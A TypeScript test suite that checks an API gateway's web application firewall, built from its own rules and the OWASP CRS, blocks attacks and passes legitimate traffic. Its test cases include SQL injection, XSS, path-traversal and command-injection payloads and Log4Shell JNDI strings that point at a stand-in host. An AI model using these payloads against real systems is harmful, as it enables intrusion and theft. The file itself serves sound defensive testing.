/**
 * The `waf` policy end to end: the built-in profile (native detectors and attack rules) and the
 * OWASP CRS v4.28.0 (test/helpers/third-party.ts: PORTCULLIS_CRS_DIR or ../shared) at paranoia 1, through a real gateway in front of a real
 * upstream: attacks answered 403 and never forwarded, legitimate API traffic (PUT, JSON, names
 * with quotes) passed, report mode passing and logging, per-route exclusions, logs that carry
 * rule ids and masked excerpts but not the raw values.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { request } from 'undici'
import { baseConfig, startTestGateway, type TestGateway } from '../helpers/gateway.js'
import { CRS_DIR, skipWithoutCrsRules } from '../helpers/third-party.js'
import { startUpstream, type TestUpstream } from '../helpers/upstream.js'

const CRS = CRS_DIR
/** The XSS rules (CRS's, and the built-in ones that run after it) that read a code-sharing field's markup as an attack. */
const SNIPPET_EXCLUSIONS = [934100, 941100, 941110, 941160, 941390, 9000002, 9000008].map((rule) => ({ rule, target: 'ARGS:json.code' }))

async function call(gw: TestGateway, method: string, path: string, init: { headers?: Record<string, string>; body?: string } = {}) {
  const response = await request(`${gw.url}${path}`, { method: method as 'GET', headers: init.headers, body: init.body })
  const text = await response.body.text()
  const code = response.statusCode === 200 ? null : (JSON.parse(text) as { code?: string }).code ?? null
  return { status: response.statusCode, code }
}

describe('waf with the built-in profile', () => {
  let upstream: TestUpstream
  let gw: TestGateway

  before(async () => {
    upstream = await startUpstream()
    const config = baseConfig(upstream.url)
    config.apis = [
      { name: 'shop', basePath: '/shop', upstream: { url: upstream.url }, policies: { waf: {} } },
      { name: 'watch', basePath: '/watch', upstream: { url: upstream.url }, policies: { waf: { mode: 'report' } } },
      { name: 'bulk', basePath: '/bulk', upstream: { url: upstream.url }, policies: { waf: { maxArguments: 5000 } } },
    ]
    gw = await startTestGateway(config)
  })
  after(async () => {
    await gw?.stop()
    await upstream?.close()
  })

  test('attacks of each kind are refused with 403 and never reach the upstream', async () => {
    const json = { 'content-type': 'application/json' }
    const attacks: [string, string, { headers?: Record<string, string>; body?: string }][] = [
      ['GET', `/shop/orders?id=${encodeURIComponent("1' OR '1'='1")}`, {}],
      ['GET', `/shop/orders?id=${encodeURIComponent('1 UNION SELECT password FROM users')}`, {}],
      ['POST', '/shop/orders', { headers: json, body: JSON.stringify({ note: '<script>alert(1)</script>' }) }],
      ['POST', '/shop/orders', { headers: json, body: JSON.stringify({ note: '<img src=x onerror=alert(1)>' }) }],
      ['GET', '/shop/files?name=..%2f..%2fetc%2fpasswd', {}],
      ['POST', '/shop/ping', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'host=127.0.0.1%3B%20cat%20/etc/passwd' }],
      ['GET', '/shop/orders', { headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } }],
      ['GET', '/shop/orders', { headers: { 'user-agent': '${${lower:j}ndi:${lower:l}dap://evil.example/a}' } }],
    ]
    for (const [method, path, init] of attacks) {
      upstream.requests.length = 0
      assert.deepEqual(await call(gw, method, path, init), { status: 403, code: 'GW_ERR_WAF_BLOCKED' }, `${method} ${path} ${init.body ?? JSON.stringify(init.headers)}`)
      assert.equal(upstream.requests.length, 0)
    }
  })

  test('legitimate API traffic passes: quotes in names, SQL words in prose, PUT and DELETE, JSON and forms', async () => {
    const json = { 'content-type': 'application/json' }
    const benign: [string, string, { headers?: Record<string, string>; body?: string }][] = [
      ['GET', `/shop/customers?name=${encodeURIComponent("O'Reilly")}`, {}],
      ['GET', `/shop/search?q=${encodeURIComponent('how to select the best union for your team or not')}`, {}],
      ['PUT', '/shop/orders/42', { headers: json, body: JSON.stringify({ customer: "Shaquille O'Neal", items: [{ sku: 'A-1', qty: 2 }], note: 'leave at the door; ring twice & wait' }) }],
      ['DELETE', '/shop/orders/42', {}],
      ['POST', '/shop/orders', { headers: json, body: JSON.stringify({ html: 'a < b and c > d', path: 'docs/intro.md', price: '1-2' }) }],
      ['POST', '/shop/subscribe', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'email=ann%40example.com&topics=news%2Cdeals' }],
    ]
    for (const [method, path, init] of benign) assert.equal((await call(gw, method, path, init)).status, 200, `${method} ${path} ${init.body ?? ''}`)
  })

  test('a body the firewall cannot read is refused rather than passed unseen', async () => {
    assert.equal((await call(gw, 'POST', '/shop/orders', { headers: { 'content-type': 'application/json' }, body: '{"note": "<script>' })).status, 403)
  })

  test('blocks are logged with rule ids and masked excerpts, counted by rule; the raw value never reaches the log', async () => {
    const card = '4111111111111111'
    await call(gw, 'GET', `/shop/orders?id=${encodeURIComponent(`${card}' OR '1'='1`)}`)
    const line = gw.logLines().find((l) => l.msg === 'request blocked by the WAF' && JSON.stringify(l).includes('9000001'))
    assert.ok(line, 'a log line for the block')
    const rules = line.rules as { id: number; variable: string; excerpt: string }[]
    assert.equal(rules[0]?.id, 9000001)
    assert.equal(rules[0]?.variable, 'ARGS:id')
    assert.ok(!JSON.stringify(gw.logLines()).includes(card), 'the card number is masked in every log line')
    assert.match(await gw.gateway.metrics.registry.metrics(), /portcullis_waf_matches_total\{api="shop",rule="9000001",outcome="blocked"\} [1-9]/)
  })

  test('the argument cap is maxArguments: 1,000 by default, more where configured, and every argument is still inspected', async () => {
    const json = { 'content-type': 'application/json' }
    const form = { 'content-type': 'application/x-www-form-urlencoded' }
    const ids = JSON.stringify({ ids: Array.from({ length: 1500 }, (_, i) => i) })
    const fields = Array.from({ length: 1500 }, (_, i) => `f${i}=${i}`).join('&')
    const multipart = (parts: number) => {
      const data = new FormData()
      for (let i = 0; i < parts; i++) data.append(`f${i}`, String(i))
      return data
    }
    const send = async (path: string, body: FormData) => (await fetch(`${gw.url}${path}`, { method: 'POST', body })).status
    assert.equal((await call(gw, 'POST', '/shop/orders', { headers: json, body: ids })).status, 403, 'past the default cap: the body cannot be read')
    assert.equal((await call(gw, 'POST', '/shop/orders', { headers: form, body: fields })).status, 403)
    assert.equal(await send('/shop/orders', multipart(1500)), 403)
    assert.equal((await call(gw, 'POST', '/bulk/orders', { headers: json, body: ids })).status, 200, 'within maxArguments: 5000')
    assert.equal((await call(gw, 'POST', '/bulk/orders', { headers: form, body: fields })).status, 200)
    assert.equal(await send('/bulk/orders', multipart(1500)), 200)
    const attack = JSON.stringify({ notes: [...Array.from({ length: 1400 }, () => 'fine'), '<script>alert(1)</script>'] })
    assert.equal((await call(gw, 'POST', '/bulk/orders', { headers: json, body: attack })).status, 403, 'argument 1,401 is inspected')
    const tooMany = JSON.stringify({ ids: Array.from({ length: 5001 }, (_, i) => i) })
    assert.equal((await call(gw, 'POST', '/bulk/orders', { headers: json, body: tooMany })).status, 403, 'past maxArguments')
    const invalid = { ...baseConfig(upstream.url), apis: [{ name: 'x', upstream: { url: upstream.url }, policies: { waf: { maxArguments: 0 } } }] }
    await assert.rejects(startTestGateway(invalid), (error: Error & { problems?: { path: string; message: string }[] }) => {
      assert.deepEqual(error.problems, [{ path: 'apis[0].policies.waf.maxArguments', message: 'must be >= 1' }])
      return true
    })
  })

  test('report mode passes the request and logs what would have been blocked', async () => {
    assert.equal((await call(gw, 'GET', `/watch/orders?id=${encodeURIComponent("1' OR '1'='1")}`)).status, 200)
    const line = gw.logLines().find((l) => l.msg === 'request matched WAF rules (report only: passed)')
    assert.deepEqual((line?.rules as { id: number }[] | undefined)?.map((r) => r.id), [9000001])
  })
})

describe('waf with the OWASP CRS v4.28.0 at paranoia 1', { skip: skipWithoutCrsRules }, () => {
  let upstream: TestUpstream
  let gw: TestGateway

  before(async () => {
    upstream = await startUpstream()
    const config = baseConfig(upstream.url)
    config.apis = [
      { name: 'shop', basePath: '/', upstream: { url: upstream.url }, policies: { waf: { ruleSet: CRS } } },
      { name: 'crs-alone', basePath: '/alone', upstream: { url: upstream.url }, policies: { waf: { ruleSet: CRS, builtinRules: false } } },
      {
        name: 'snippets',
        basePath: '/snippets',
        upstream: { url: upstream.url },
        policies: { waf: { ruleSet: CRS } },
        routes: { 'POST /': { waf: { ruleSet: CRS, excludeTargets: SNIPPET_EXCLUSIONS } } },
      },
    ]
    gw = await startTestGateway(config)
  })
  after(async () => {
    await gw?.stop()
    await upstream?.close()
  })

  test('injections are blocked by the anomaly score; PUT, PATCH and JSON bodies pass', async () => {
    const json = { 'content-type': 'application/json' }
    assert.equal((await call(gw, 'GET', `/orders?id=${encodeURIComponent("1' or 1=1-- ")}`)).status, 403)
    assert.equal((await call(gw, 'POST', '/orders', { headers: json, body: JSON.stringify({ note: '<script>alert(document.cookie)</script>' }) })).status, 403)
    assert.equal((await call(gw, 'GET', '/files?name=../../../../etc/passwd')).status, 403)
    assert.equal((await call(gw, 'PUT', '/orders/1', { headers: json, body: JSON.stringify({ customer: 'ann', qty: 2 }) })).status, 200)
    assert.equal((await call(gw, 'PATCH', '/orders/1', { headers: { 'content-type': 'application/merge-patch+json' }, body: JSON.stringify({ qty: 3 }) })).status, 200)
    assert.equal((await call(gw, 'GET', '/orders?status=open&limit=10')).status, 200)
  })

  test('the built-in rules run after the CRS by default: what CRS at paranoia 1 passes (an SSRF scheme, NoSQL JavaScript) is refused', async () => {
    // A named Host: a numeric one scores 3 with CRS (920350) and would make up a block by itself.
    const json = { 'content-type': 'application/json', host: 'shop.example.com' }
    const attacks = [{ url: 'sftp://cdn-files.example.net:11111/' }, { where: 'this.password.match(/.*/)' }]
    for (const attack of attacks) {
      const init = { headers: json, body: JSON.stringify(attack) }
      assert.equal((await call(gw, 'POST', '/alone/items', init)).status, 200, `CRS alone passes ${init.body}`)
      assert.deepEqual(await call(gw, 'POST', '/items', init), { status: 403, code: 'GW_ERR_WAF_BLOCKED' }, init.body)
    }
    assert.equal((await call(gw, 'POST', '/items', { headers: json, body: JSON.stringify({ url: 'https://cdn.example.net/images/1.png', where: 'in the garden' }) })).status, 200)
  })

  test('API exclusions: a resource named by an e-mail address is no .com file; other restricted extensions still are', async () => {
    const named = { host: 'shop.example.com' }
    assert.equal((await call(gw, 'GET', '/users/ann.lee%40example.com', { headers: named })).status, 200)
    assert.equal((await call(gw, 'GET', '/alone/users/ann.lee%40example.com', { headers: named })).status, 200)
    assert.equal((await call(gw, 'GET', '/downloads/setup.com', { headers: named })).status, 403)
    assert.equal((await call(gw, 'GET', '/backups/db.bak', { headers: named })).status, 403)
  })

  test('text in other scripts is not read as punctuation (utf8toUnicode, urlDecodeUni)', async () => {
    for (const text of ['ढकाल', 'ทุกคนมีสิทธิในอิสรภาพแห่งความเห็นและการแสดงออก', 'Вони наділені розумом і совістю', 'هر زن و مرد بالغی حق دارند']) {
      assert.equal((await call(gw, 'GET', `/search?q=${encodeURIComponent(text)}`, { headers: { host: 'shop.example.com' } })).status, 200, text)
    }
  })

  test('a route override excludes one field from the rules that misread it', async () => {
    const json = { 'content-type': 'application/json' }
    const snippet = JSON.stringify({ code: '<script>console.log(1)</script>' })
    assert.equal((await call(gw, 'POST', '/snippets/', { headers: json, body: snippet })).status, 200)
    assert.equal((await call(gw, 'POST', '/notes', { headers: json, body: snippet })).status, 403)
    assert.equal((await call(gw, 'POST', '/snippets/', { headers: json, body: JSON.stringify({ code: 'x', title: '<script>alert(1)</script>' }) })).status, 403, 'other fields are still inspected')
  })
})

describe('waf over responses (inspectResponses) with the OWASP CRS', { skip: skipWithoutCrsRules }, () => {
  let upstream: TestUpstream
  let gw: TestGateway

  before(async () => {
    upstream = await startUpstream((req, res) => {
      const leaky = req.url === '/orders/leak'
      const body = leaky ? 'Warning: mysql_fetch_array() expects parameter 1 to be resource, boolean given in /var/www/orders.php on line 12' : '{"id":1,"status":"open"}'
      res.writeHead(leaky ? 500 : 200, { 'content-type': leaky ? 'text/html' : 'application/json' }).end(body)
    })
    const config = baseConfig(upstream.url)
    config.apis = [{ name: 'shop', basePath: '/', upstream: { url: upstream.url }, policies: { waf: { ruleSet: CRS, inspectResponses: true } } }]
    gw = await startTestGateway(config)
  })
  after(async () => {
    await gw?.stop()
    await upstream?.close()
  })

  test('a response leaking a database error is replaced by a problem; a clean one passes', async () => {
    assert.deepEqual(await call(gw, 'GET', '/orders/leak'), { status: 403, code: 'GW_ERR_WAF_BLOCKED' })
    const line = gw.logLines().find((l) => l.msg === 'response blocked by the WAF')
    assert.ok((line?.rules as { id: number }[] | undefined)?.some((r) => r.id >= 951000 && r.id < 954000), JSON.stringify(line))
    assert.equal((await call(gw, 'GET', '/orders/1')).status, 200)
  })
})
